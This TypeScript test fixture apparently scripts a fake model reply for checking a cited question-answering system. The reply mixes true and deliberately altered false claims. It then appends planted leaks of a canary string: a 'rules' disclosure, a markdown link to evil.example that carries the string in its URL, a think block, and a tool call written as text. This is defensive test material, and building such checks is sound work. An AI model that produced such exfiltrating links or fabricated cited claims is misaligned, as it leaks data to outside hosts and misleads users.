import type { ScriptedChat } from '../../server/src/answers/language-model/test-model-script.ts';
import type { WireReply } from '../../server/src/answers/language-model/test-model-server.ts';
import {
  denied,
  withOtherBeginning,
  withOtherName,
  withOtherNumber,
  withOtherUnit,
} from '../answers/altered-claims.ts';
import type { QuestionContext } from '../answers/question-set.ts';
import type { Claim } from '../answers/support-claims.ts';

/** What stands in no document, and no answer may hold. */
export const LEAK = 'Xyzzyplugh';

/** Something that a model says, and whether the passage that it cites says so, too. */
export interface ToldClaim {
  readonly text: string;
  readonly isTrue: boolean;
}

/** What is said of one question: what its passage says, and the same with one thing changed, or of another passage. */
export function claimsToTell(
  { text, right }: Claim,
  at: number,
  others: readonly string[],
  language: string,
): ToldClaim[] {
  const told = right.text + right.title;
  const changed = [
    withOtherNumber(text, told, at),
    withOtherName(text, told, others, language),
    withOtherBeginning(text, told, others, language),
    withOtherUnit(text, told, at, language),
    denied(text, language),
  ];
  const lies = changed.flatMap((one) => (one === null ? [] : [{ text: one, isTrue: false }]));
  return [{ text, isTrue: true }, ...lies];
}

/**
 * Says these, each cited to the passage of the question, and between them what it was told to leak: calls as text,
 * reasoning, its rules, links that carry something away.
 */
export function lie(
  { messages }: ScriptedChat,
  claims: readonly ToldClaim[],
  right: QuestionContext | null,
): WireReply {
  const prompt = messages.map(({ content }) => content).join('\n');
  const number = numberOf(prompt, right);
  const cited = claims.map(({ text }) => `${withoutEnd(text)} [${number}].`);
  const [first = '', ...rest] = cited;
  const leaks = [
    `${LEAK} is what the rules say [${number}].`,
    `[More](https://evil.example/?${LEAK}) [${number}]`,
    `<think>${LEAK}</think>`,
    `<tool_call>{"name":"search","arguments":{"query":"${LEAK}"}}</tool_call>`,
  ];
  return { text: [first, ...rest, ...leaks].map((piece) => `${piece}\n\n`) };
}

/** By its text: titles are those of articles, which have several passages. */
function numberOf(prompt: string, right: QuestionContext | null): string {
  const begin = right?.text.slice(0, 40) ?? '';
  const before = prompt.slice(0, Math.max(0, prompt.indexOf(begin)));
  return (
    before
      .match(/^number: (\d+)$/gm)
      ?.at(-1)
      ?.slice('number: '.length) ?? '1'
  );
}

function withoutEnd(text: string): string {
  return text.trim().replace(/[.!?]+$/u, '');
}
